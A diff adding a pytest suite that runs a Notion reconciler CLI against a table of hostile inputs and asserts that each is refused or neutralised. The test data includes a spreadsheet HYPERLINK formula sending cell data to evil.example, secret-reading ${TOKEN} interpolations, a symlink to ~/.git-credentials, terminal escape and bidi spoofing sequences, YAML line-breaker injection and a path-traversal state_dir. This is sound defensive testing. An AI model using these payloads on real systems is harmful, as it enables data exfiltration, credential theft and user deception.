@@ -1,0 +1,400 @@
+"""The hostile-input matrix of issue 14: each attack, with the issue's exact input, through the real
+CLI in a cage (``conftest.run_caged``), and what must hold afterwards.
+
+One row (``Attack``) per attack: the issue's item number, how the repository (and its --local
+workspace, or a hostile Notion on loopback) is set up, the command and its environment, whether
+stdout is a terminal, and the checks on the run and on the files it left. ``ATTACKS`` is the
+whole table: add a row for a new attack, with ``expect`` built from the small checks below or a
+function of its own.
+"""
+
+from __future__ import annotations
+
+import csv
+import io
+import os
+from collections.abc import Callable, Iterator, Mapping, Sequence
+from dataclasses import dataclass, field
+
+import pytest
+import yaml
+
+from reconciler.manifest import load_desired_state
+from tests.cli.test_import_export_doctor import LocalNotion, text
+from tests.hostile.conftest import (
+    CagedRun,
+    HostileRepository,
+    run_caged,
+    run_caged_on_terminal,
+)
+from tests.hostile.notion import hostile_notion_server
+
+TOKEN = "ntn_matrixIntegrationToken0123456789"
+GITHUB_TOKEN = "ghs_matrixRunnerToken0123456789"
+SECRETS = {"NOTION_TOKEN": TOKEN, "GITHUB_TOKEN": GITHUB_TOKEN}
+CREDENTIALS = "https://ada:ghp_matrixCredential0123456789@github.com\n"
+OSC = "\x1b]0;owned\x07"
+TASKS = "database: tasks\ntitle: {title}\nproperties:\n  Name: title\n  Notes: rich_text\n"
+FORMULAS = [
+    '=HYPERLINK("https://evil.example/?d="&A1,"Details")',
+    "+SUM(1,2)",
+    "-2+3",
+    "@SUM(1)",
+    "first half\rsecond half",
+]
+
+
+@dataclass(frozen=True)
+class Stage:
+    """What an attack is set up in: the repository, and a hostile Notion on loopback."""
+
+    repo: HostileRepository
+    hostile_notion: str
+
+
+@dataclass(frozen=True)
+class Attack:
+    """One row of the matrix. ``prepare`` writes the repository and returns more arguments for
+    the command (a database id it created, say); ``expect`` checks the run and the files."""
+
+    item: int
+    name: str
+    prepare: Callable[[Stage], Sequence[str]]
+    command: tuple[str, ...]
+    expect: Callable[[Stage, CagedRun], None]
+    env: Mapping[str, str] = field(default_factory=dict)
+    on_terminal: bool = False
+
+
+# --- checks -----------------------------------------------------------------------------------
+
+
+def refused(*says: str, at: str = "") -> Callable[[Stage, CagedRun], None]:
+    """Exit 1, each text said, ``at`` (file:line) named, no traceback, no secret value."""
+
+    def check(_stage: Stage, run: CagedRun) -> None:
+        assert run.exit_code == 1, run.output[-2000:]
+        for text_said in says:
+            assert text_said in run.output, run.output[-2000:]
+        assert at in run.output
+        assert "Traceback" not in run.output
+        no_secret_shown(run)
+
+    return check
+
+
+def no_secret_shown(run: CagedRun) -> None:
+    for value in (TOKEN, GITHUB_TOKEN, "ghp_matrixCredential"):
+        assert value not in run.output
+
+
+def both(*checks: Callable[[Stage, CagedRun], None]) -> Callable[[Stage, CagedRun], None]:
+    def check(stage: Stage, run: CagedRun) -> None:
+        for each in checks:
+            each(stage, run)
+
+    return check
+
+
+def no_file(relative: str) -> Callable[[Stage, CagedRun], None]:
+    def check(stage: Stage, _run: CagedRun) -> None:
+        assert not (stage.repo.root / relative).exists(), relative
+
+    return check
+
+
+# --- set-ups ----------------------------------------------------------------------------------
+
+
+def manifest(text_: str, config: str = "") -> Callable[[Stage], Sequence[str]]:
+    def prepare(stage: Stage) -> Sequence[str]:
+        stage.repo.manifest(text_)
+        if config:
+            stage.repo.write("reconciler.yaml", config)
+        return ()
+
+    return prepare
+
+
+def _workspace(stage: Stage) -> LocalNotion:
+    return LocalNotion(stage.repo.root)
+
+
+def _titled_database(title: str) -> Callable[[Stage], Sequence[str]]:
+    def prepare(stage: Stage) -> Sequence[str]:
+        notion = _workspace(stage)
+        database, _ = notion.database(title, {"Name": {"title": {}}})
+        notion.close()
+        (stage.repo.root / "manifests").rmdir()  # import writes the folder
+        return (database,)
+
+    return prepare
+
+
+def _linked_credentials(stage: Stage) -> Sequence[str]:
+    stage.repo.manifest(TASKS.format(title="Tasks"))
+    credentials = stage.repo.outside / ".git-credentials"
+    credentials.write_text(CREDENTIALS, encoding="utf-8")
+    os.symlink(credentials, stage.repo.root / "manifests" / "a.yaml")
+    return ()
+
+
+def _formula_rows(stage: Stage) -> Sequence[str]:
+    """A live database of formula-led notes and a negative score, and its manifest."""
+    notion = _workspace(stage)
+    database, source = notion.database(
+        "Formulas", {"Name": {"title": {}}, "Notes": {"rich_text": {}}, "Score": {"number": {}}}
+    )
+    for number, notes in enumerate(FORMULAS, start=1):
+        notion.row(
+            source,
+            {
+                "Name": {"title": text(f"row {number}")},
+                "Notes": {"rich_text": text(notes)},
+                "Score": {"number": -2 if number == 1 else number},
+            },
+        )
+    notion.close()
+    stage.repo.manifest(
+        f"database: formulas\nid: {database}\ntitle: Formulas\n"
+        "properties: {Name: title, Notes: rich_text, Score: number}\n",
+        name="formulas.yaml",
+    )
+    return ()
+
+
+def _escapes_in_notes(stage: Stage) -> Sequence[str]:
+    """A live row whose notes carry OSC, CSI and a direction override, and its manifest."""
+    notion = _workspace(stage)
+    database, source = notion.database("Notes", {"Name": {"title": {}}, "Notes": {"rich_text": {}}})
+    notion.row(
+        source,
+        {
+            "Name": {"title": text("a")},
+            "Notes": {"rich_text": text(f"{OSC}note\x1b[2J\u202efdp.exe")},
+        },
+    )
+    notion.close()
+    stage.repo.manifest(
+        f"database: notes\nid: {database}\ntitle: Notes\n"
+        "properties: {Name: title, Notes: rich_text}\n"
+    )
+    return ()
+
+
+def _pinned_at_hostile_notion(stage: Stage) -> Sequence[str]:
+    stage.repo.manifest(TASKS.format(title="Tasks") + "id: 1429989fe8ac4effbc8f57f56486db54\n")
+    return ()
+
+
+def _emoji_rows(stage: Stage) -> Sequence[str]:
+    rows = "".join(f'  - {{Name: "row {n}", Notes: "{"🚀" * 60}"}}\n' for n in range(1500))
+    stage.repo.manifest(TASKS.format(title="Tasks") + "rows:\n" + rows)
+    return ()
+
+
+# --- what must hold ---------------------------------------------------------------------------
+
+
+def _imported_inertly(stage: Stage, run: CagedRun) -> None:
+    assert run.exit_code == 0, run.output[-2000:]
+    (written,) = (stage.repo.root / "manifests").iterdir()
+    assert "prune_properties" not in yaml.safe_load(written.read_text(encoding="utf-8"))
+    (database,) = load_desired_state([str(written)]).databases
+    assert database.prune_properties is False
+
+
+def _cells_neutralised(stage: Stage, run: CagedRun) -> None:
+    assert run.exit_code == 0, run.output[-2000:]
+    raw = (stage.repo.root / "out" / "formulas.csv").read_text(encoding="utf-8")
+    records = list(csv.DictReader(io.StringIO(raw, newline="")))
+    assert len(records) == len(FORMULAS)
+    notes = [record["Notes"] for record in records]
+    assert [cell for cell in notes if cell.startswith(("=", "+", "-", "@", "\t", "\r"))] == []
+    assert records[0]["Score"] == "-2"
+
+
+def _escapes_shown(_stage: Stage, run: CagedRun) -> None:
+    assert run.exit_code == 0, run.output[-2000:]
+    assert "\x1b" not in run.stdout
+    assert "\u202e" not in run.stdout
+    assert "\\x1b]0;owned\\x07note\\x1b[2J\\u202efdp.exe" in run.stdout
+
+
+def _no_raw_controls_in_markdown(_stage: Stage, run: CagedRun) -> None:
+    assert run.exit_code == 0, run.output[-2000:]
+    assert [c for c in run.stdout if c in "\x1b\x07\u202e\u2066\u200b\u2028"] == []
+
+
+def _comment_within_bytes(_stage: Stage, run: CagedRun) -> None:
+    assert run.exit_code == 0, run.output[-2000:]
+    assert len(run.stdout.encode("utf-8")) <= 65_000
+    assert "this comment is limited to 65,000 bytes" in run.stdout
+
+
+def _nothing_outside(stage: Stage, run: CagedRun) -> None:
+    refused("state_dir '../../elsewhere' leads out of the repository", at="reconciler.yaml:2")(
+        stage, run
+    )
+    assert not (stage.repo.root.parent.parent / "elsewhere").exists()
+
+
+ATTACKS: list[Attack] = [
+    # --- 1: ${VAR} and secrets
+    Attack(
+        1,
+        "a title reading the token",
+        manifest(TASKS.format(title='"Leak ${NOTION_TOKEN}"')),
+        ("plan", "--local", "--format", "markdown"),
+        refused("NOTION_TOKEN looks like a secret", at="manifests/tasks.yaml:2"),
+        env=SECRETS,
+    ),
+    Attack(
+        1,
+        "a row reading GITHUB_TOKEN with a default",
+        manifest(
+            TASKS.format(title="Tasks") + 'rows:\n  - {Name: a, Notes: "${GITHUB_TOKEN:-none}"}\n'
+        ),
+        ("plan", "--local", "-o", "plan.json"),
+        both(refused("GITHUB_TOKEN looks like a secret"), no_file("plan.json")),
+        env=SECRETS,
+    ),
+    Attack(
+        1,
+        "an id reading the token",
+        manifest(TASKS.format(title="Tasks") + "id: ${NOTION_TOKEN}\n"),
+        ("validate",),
+        refused("NOTION_TOKEN looks like a secret", at="manifests/tasks.yaml:6"),
+        env=SECRETS,
+    ),
+    Attack(
+        1,
+        "a redis_url carrying the token",
+        manifest(
+            TASKS.format(title="Tasks"),
+            config='rate_limit:\n  redis_url: "redis://:${NOTION_TOKEN}@host"\n',
+        ),
+        ("validate",),
+        refused("NOTION_TOKEN looks like a secret", at="reconciler.yaml:2"),
+        env=SECRETS,
+    ),
+    Attack(
+        1,
+        "a secret's value pasted into a manifest",
+        manifest(TASKS.format(title=f"Tasks {GITHUB_TOKEN}")),
+        ("plan", "--local", "-o", "plan.json", "--format", "markdown"),
+        both(refused("the plan holds the value of GITHUB_TOKEN"), no_file("plan.json")),
+        env=SECRETS,
+    ),
+    # --- 9: titles that end a YAML line
+    *(
+        Attack(
+            9,
+            f"a title with {name} before a manifest key",
+            _titled_database(f"Roadmap{breaker}prune_properties: true"),
+            ("import", "--local"),
+            _imported_inertly,
+        )
+        for name, breaker in (("U+2028", "\u2028"), ("U+2029", "\u2029"), ("NEL", "\x85"))
+    ),
+    Attack(
+        9,
+        "a title with CR before a manifest key",
+        _titled_database("Roadmap\rprune_properties: true"),
+        ("import", "--local"),
+        _imported_inertly,
+    ),
+    # --- 10: links out of the repository
+    Attack(
+        10,
+        "manifests/a.yaml linked to ~/.git-credentials",
+        _linked_credentials,
+        ("validate",),
+        refused("a link leads this manifest out of the repository", at="manifests/a.yaml"),
+    ),
+    # --- 11: CSV export
+    Attack(
+        11,
+        "formula-led live text and a CR",
+        _formula_rows,
+        ("export", "--local", "--format", "csv", "-o", "out"),
+        _cells_neutralised,
+    ),
+    # --- 12: terminal escapes, bidi controls, the comment's size
+    Attack(
+        12,
+        "an error relayed from Notion with OSC sequences",
+        _pinned_at_hostile_notion,
+        ("plan",),
+        both(refused("\\x1b]0;owned\\x07Could not find database"), lambda _s, run: _no_esc(run)),
+        env={"NOTION_TOKEN": TOKEN},
+    ),
+    Attack(
+        12,
+        "export -o - on a terminal",
+        _escapes_in_notes,
+        ("export", "--local", "--format", "csv", "-o", "-"),
+        _escapes_shown,
+        on_terminal=True,
+    ),
+    Attack(
+        12,
+        "escapes and bidi controls in a pull-request comment",
+        manifest(
+            TASKS.format(title="Tasks")
+            + 'rows:\n  - {Name: a, Notes: "\\e]0;owned\\a\\e[8m \\u202efdp.exe'
+            ' \\u2066x\\u2069 zero\\u200bwidth \\u2028next"}\n'
+        ),
+        ("plan", "--local", "--format", "markdown"),
+        _no_raw_controls_in_markdown,
+    ),
+    Attack(
+        12,
+        "a comment of four-byte characters",
+        _emoji_rows,
+        ("plan", "--local", "--format", "markdown"),
+        _comment_within_bytes,
+    ),
+    # --- 15: the state folder
+    Attack(
+        15,
+        "state_dir: ../../elsewhere",
+        manifest(
+            TASKS.format(title="Tasks"),
+            config="manifests: manifests\nstate_dir: ../../elsewhere\n",
+        ),
+        ("plan", "--local"),
+        _nothing_outside,
+    ),
+]
+
+
+def _no_esc(run: CagedRun) -> None:
+    assert "\x1b" not in run.output
+    assert "\x07" not in run.output
+
+
+# --- the test -----------------------------------------------------------------------------------
+
+
+@pytest.fixture
+def hostile_notion() -> Iterator[str]:
+    """A Notion whose every answer is a 404 with OSC sequences in its message."""
+    message = f"{OSC}Could not find database\x1b]8;;https://evil.example\x07"
+    with hostile_notion_server(message) as url:
+        yield url
+
+
+@pytest.mark.parametrize(
+    "attack", [pytest.param(a, id=f"item {a.item}: {a.name}") for a in ATTACKS]
+)
+def test_the_attack_is_defeated(
+    attack: Attack, hostile_repo: HostileRepository, hostile_notion: str
+) -> None:
+    """The issue's input, the real CLI, caged: the checks of the row hold."""
+    stage = Stage(hostile_repo, hostile_notion)
+    extra = attack.prepare(stage)
+    env = {"NOTION_BASE_URL": hostile_notion, **attack.env}
+    runner = run_caged_on_terminal if attack.on_terminal else run_caged
+    run = runner(hostile_repo.root, *attack.command, *extra, env=env)
+    attack.expect(stage, run)
